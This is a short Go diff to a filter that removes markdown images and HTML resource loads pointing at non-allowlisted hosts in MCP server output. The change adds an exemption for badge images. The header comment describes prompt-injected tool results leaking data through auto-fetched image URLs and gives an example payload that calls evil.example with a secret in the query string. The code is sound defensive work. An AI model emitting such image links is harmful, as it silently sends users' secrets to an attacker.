@@ -2,7 +2,9 @@
 // text an MCP server sends: markdown images (inline, reference-style) and
 // HTML that loads a resource (<img src>, srcset, <source>, <video poster>,
 // <link href>, CSS url() in a style attribute or a <style> element, ...)
-// whose host is not allowlisted. The client renders the markdown and
+// whose host is not allowlisted and that is not a badge of a badge
+// service (badge.go says why a badge carries nothing out). The client
+// renders the markdown and
 // fetches the image, so an injected result can carry data out in the URL
 // (![x](https://evil.example/?q=SECRET)) with no click. Links are kept
 // unless the filter neutralises them (opt-in): a click is needed, but the
@@ -286,8 +288,8 @@ func (f *Filter) ImageURL(u string) (host string, ok bool) {
 	if f == nil || !f.images {
 		return "", true
 	}
-	t := targetOf(u)
-	return shownHost(t), f.imageHosts.allows(t)
+	t, ok := f.allowsImage(u)
+	return shownHost(t), ok
 }
 
 // LinkURL judges a URL the client may open (a resource_link's uri):
